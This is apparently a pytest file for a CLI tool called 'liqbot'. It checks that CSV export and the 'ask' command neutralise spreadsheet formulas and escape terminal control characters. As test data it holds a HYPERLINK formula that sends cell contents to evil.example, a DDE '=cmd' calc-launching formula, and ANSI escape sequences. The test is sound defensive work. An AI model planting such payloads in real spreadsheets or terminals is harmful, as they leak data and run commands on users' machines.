"""Text users typed reaches the terminal and the spreadsheet inert: `liqbot outreach export` CSV
neutralises formulas and escapes control characters, `liqbot ask` escapes them too."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from pathlib import Path

from sqlalchemy.ext.asyncio import AsyncSession

from bot.db import repo_cases
from tests.cli.test_cli import run

CONTACT = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'
NOTES = "asked about an MM \x1b[2J\x1b]0;pwned\x07 \x9b31mred"


async def test_export_and_ask_never_pass_formulas_or_escapes_on(
    session: AsyncSession, db_url: str, tmp_path: Path
) -> None:
    await repo_cases.insert_event(
        session,
        idempotency_key="text-safety-1",
        symbol="ZORB",
        kind="contact",
        at=datetime(2026, 3, 2, 9, 0, tzinfo=UTC),
        actor="U0ANALYST",
        actor_name="=cmd|' /C calc'!A0",
        details={"channel": "email", "contact": CONTACT, "notes": NOTES, "followup_on": None},
    )
    await session.commit()

    exported = run(["outreach", "export", "--format", "csv"], tmp_path, DATABASE_URL=db_url)
    assert exported.returncode == 0, exported.stderr
    [row] = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert row["contact"] == "'" + CONTACT
    assert row["by"] == "'=cmd|' /C calc'!A0"  # a display name is text like any other
    assert row["notes"] == "asked about an MM \\x1b[2J\\x1b]0;pwned\\x07 \\x9b31mred"
    assert not any(ch in exported.stdout for ch in "\x1b\x07\x9b")

    asked = run(["ask", "/outreach ZORB"], tmp_path, DATABASE_URL=db_url)
    assert asked.returncode == 0, asked.stderr
    assert "\\x1b[2J" in asked.stdout  # shown, escaped
    assert not any(ch in asked.stdout for ch in "\x1b\x07\x9b")
